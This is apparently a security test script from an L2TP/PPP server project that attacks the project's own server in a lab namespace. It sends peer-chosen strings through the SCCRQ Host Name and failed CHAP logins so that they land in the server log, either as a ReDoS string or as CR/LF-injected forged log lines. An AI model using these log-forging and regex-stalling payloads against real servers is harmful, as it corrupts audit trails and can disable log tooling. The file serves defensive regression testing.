/**
 * Attack script (runs in the attacker namespace), issue 12 findings 1 and 10:
 * peer-chosen strings that end up in the server's log. An L2TP tunnel whose
 * SCCRQ Host Name is the payload (no authentication needed for the
 * tunnel-up line), then `count` calls whose CHAP Response carries the
 * payload as the Name with a wrong Value (a failed login, logged with the
 * name).
 *   redos: ` a="` repeated to the largest AVP (1017 octets of value), the
 *          string that made the doctor's regular expression backtrack for minutes
 *   forge: CR/LF and a whole forged line (the last argument)
 * Args: server, mode, count, forged line. Prints `DONE tunnel=up|down calls=N failure=F success=S unanswered=U`.
 */
import { clientRuntime } from '../../../../src/client/common.js';
import { silentLogger } from '../../../../src/log/logger.js';
import { L2tpPort, type L2tpSessionTransport } from '../../../../src/server/l2tp-endpoint.js';
import type { PppLink } from '../../../../src/server/link.js';
import { ScriptedPppPeer } from '../../ppp-peer.js';

const [server = '10.201.0.1', mode = 'redos', countArg = '2', forgedLine = 'FORGED'] = process.argv.slice(2);
const count = Number(countArg);
const payload = mode === 'forge' ? `x\r\n${forgedLine}\r\n${forgedLine}\n` : ' a="'.repeat(254);

const rt = clientRuntime({ log: silentLogger });
const tally = { tunnel: 'down', calls: 0, failure: 0, success: 0, unanswered: 0 };
let tunnelId: number | undefined;
let current: { transport: L2tpSessionTransport; peer: ScriptedPppPeer; timer: NodeJS.Timeout } | undefined;
let finish!: () => void;
const done = new Promise<void>((r) => (finish = r));

const next = (p: L2tpPort): void => {
  if (tally.calls >= count || tunnelId === undefined) {
    finish();
    return;
  }
  tally.calls++;
  p.command(tunnelId, { type: 'open-session' }, rt.ctx.clock.now());
};

const endCall = (p: L2tpPort, peer: ScriptedPppPeer, outcome: 'failure' | 'success' | 'unanswered'): void => {
  const c = current;
  if (!c || c.peer !== peer) return;
  current = undefined;
  clearTimeout(c.timer);
  tally[outcome]++;
  if (!c.transport.closed) p.command(tunnelId!, { type: 'close-session', sessionId: c.transport.sessionId, reason: 'attacker hangs up' }, rt.ctx.clock.now());
  setTimeout(() => next(p), 200);
};

const port = new L2tpPort(
  rt.ctx,
  { tunnel: { role: 'lac', hostName: payload, vendorName: 'attacker' }, maxTunnels: 1 },
  {
    onTunnelEvent(p, id, peer, e) {
      if (e.type === 'tunnel-up') {
        tunnelId = id;
        tally.tunnel = 'up';
        next(p);
      } else if (e.type === 'session-up') {
        const transport = p.openSession(id, peer, e);
        const scripted = new ScriptedPppPeer(
          (f) => transport.sendFrame(f, rt.ctx.clock.now()),
          () => ({ value: new Uint8Array(16), name: payload }),
        );
        transport.link = {
          fromTransport: (f: Uint8Array) => {
            scripted.receive(f);
            if (scripted.outcomes.length > 0) endCall(p, scripted, scripted.outcomes[0]!);
          },
          lowerDown: () => endCall(p, scripted, scripted.outcomes[0] ?? 'unanswered'),
          close: () => {},
          onPathMtu: () => {},
        } as unknown as PppLink;
        current = { transport, peer: scripted, timer: setTimeout(() => endCall(p, scripted, 'unanswered'), 5000) };
        scripted.configureRequest();
      } else if (e.type === 'session-down') {
        if (current && current.transport.sessionId === e.sessionId) endCall(p, current.peer, current.peer.outcomes[0] ?? 'unanswered');
      } else if (e.type === 'tunnel-down') {
        tunnelId = undefined;
        finish();
      }
    },
  },
  silentLogger,
  false,
);
await port.bind('0.0.0.0', 0);
const id = port.connect({ address: server, port: 1701 });
if (id === undefined) throw new Error('no tunnel');
const overall = setTimeout(() => finish(), 30_000);
await done;
clearTimeout(overall);
console.log(`DONE tunnel=${tally.tunnel} calls=${tally.calls} failure=${tally.failure} success=${tally.success} unanswered=${tally.unanswered}`);
if (tunnelId !== undefined) port.command(tunnelId, { type: 'close', reason: 'attack over' }, rt.ctx.clock.now());
await new Promise((r) => setTimeout(r, 300));
rt.scheduler.stop();
port.close();
process.exit(0);
